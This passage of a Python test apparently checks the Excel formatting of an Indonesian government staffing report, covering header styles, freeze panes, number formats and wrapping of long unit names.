    write_report_workbook(out, {"Per Unit": pd.DataFrame({"unit_kerja": ["Dinas Sosial"], "kebutuhan": [4]})})
    unit = "Badan Kepegawaian dan Pengembangan Sumber Daya Manusia"
    values = [unit, "IKM", "naik baik", "2025", 80.5, "2026", 82.25, 1.75, "membaik", "2025: 80,5; 2026: 82,25"]
    table = pd.DataFrame([[*values, 1200, 1210, 10, 5, 3, True, False]], columns=list(INDICATOR_COLUMNS))
    round_ = {"id_putaran": "P-20261205-082143-5", "waktu": "2026-12-05T02:09:59+00:00", "mutasi_diterapkan": 1234,
              "indeks_ketimpangan_sebelum": 0.1088}  # fmt: skip
    add_indicator_sheet(out, IndicatorComparison(table), rounds=[round_])
    wb = openpyxl.load_workbook(out)
    sibling = wb["Per Unit"]["A1"]
    for name, frozen in (("Indikator Layanan", "C2"), ("Tren Putaran", "B2")):
        ws = wb[name]
        head = ws["A1"]
        assert (head.font.b, head.fill.fgColor.rgb, head.border.bottom.style) == (
            sibling.font.b,
            sibling.fill.fgColor.rgb,
            sibling.border.bottom.style,
        ), name
        assert ws.freeze_panes == frozen and ws.print_options.gridLines
        assert ws.row_dimensions[1].height <= 4 * 15 + 2, name  # at most four header lines (was 96 and 112)
    ws = wb["Indikator Layanan"]
    column = {c.value: c.column_letter for c in ws[1]}
    assert ws[f"{column['Bezetting Sebelum']}2"].number_format == "#,##0_)"
    cell = ws[f"{column['Unit Kerja']}2"]
    assert cell.alignment.wrap_text and ws.row_dimensions[2].height >= 2 * 15  # the unit's name wraps, never cut
    assert ws.column_dimensions[column["Unit Kerja"]].width < len(unit)
